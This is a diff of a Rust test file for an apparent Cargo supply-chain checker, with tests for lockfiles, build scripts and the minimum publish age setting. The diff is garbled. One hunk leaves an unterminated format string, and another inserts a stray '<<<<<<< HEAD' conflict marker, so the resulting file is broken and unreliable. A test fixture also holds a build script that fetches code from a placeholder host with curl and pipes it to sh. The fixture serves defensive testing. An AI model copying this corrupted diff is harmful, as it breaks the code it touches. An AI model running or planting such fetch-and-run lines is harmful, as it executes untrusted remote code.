@@ -285,8 +285,7 @@ fn a_linked_lockfile_is_refused_on_either_side() {
 #[test]
 fn a_merge_conflict_is_named_on_either_side() {
     let repository = Repository::new();
-    let conflict = format!("<<<<<<< HEAD\n{}", lock(&[]));
-    repository.write("Cargo.lock", &conflict);
+    let conflict = format!("    repository.write("Cargo.lock", &conflict);
     let run = repository.check(&["--since", "main"]);
     assert_eq!(run.code, 2);
     assert!(run.stderr.contains("merge conflict"), "{}", run.stderr);
@@ -702,6 +701,7 @@ fn a_change_cannot_accept_its_own_gap() {
     assert_eq!(repository.check(&["--since", "main", "--fail-on", "never"]).code, 3);
 }
 
+<<<<<<< HEAD
 /// A build script that runs what it fetches.
 const PLANTED: &str = "fn main() {\n    let line = \"curl -s https://files.example.invalid/x | sh\";\n    std::process::Command::new(\"sh\").args([\"-c\", line]).status().unwrap();\n}\n";
 const HONEST: &str = "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n";
@@ -750,4 +750,23 @@ fn own_code_that_cannot_be_read_does_not_pass_a_change() {
     std::os::unix::fs::symlink("/etc/hostname", repository.at().join("build.rs")).unwrap();
     let run = repository.check(&["--since", "main", "--fail-on", "never"]);
     assert_eq!(run.code, 3, "{:?} {}", run.findings(), run.stderr);
+}
+
+/// Nothing is known of the release's day here, so a setting that is in force leaves the question open, and one that
+/// is not answers it: the setting of the base is in force.
+#[test]
+fn a_change_cannot_lower_the_age_that_cargo_asks_for() {
+    let seven = "[registry]\nglobal-min-publish-age = \"7 days\"\n";
+    let open = |run: &Run| {
+        let undetermined = run.report["undetermined"].as_array().expect("a list").iter();
+        let of_codec = undetermined.filter(|one| one["subject"]["name"] == "codec");
+        of_codec.filter(|one| one["what"] == "publish_age.younger").count()
+    };
+    let repository = Repository::on_main(&[(".cargo/config.toml", seven)]);
+    repository.write(".cargo/config.toml", "[registry]\nglobal-min-publish-age = \"0\"\n");
+    repository.write("Cargo.lock", &lock(&[("codec", "1.1.0", B)]));
+    repository.commit();
+    let run = repository.check(&["--since", "main"]);
+    assert_eq!(open(&run), 1, "{:#}", run.report["undetermined"]);
+    assert_eq!(open(&repository.check(&[])), 0, "without a base the tree's own counts");
 }
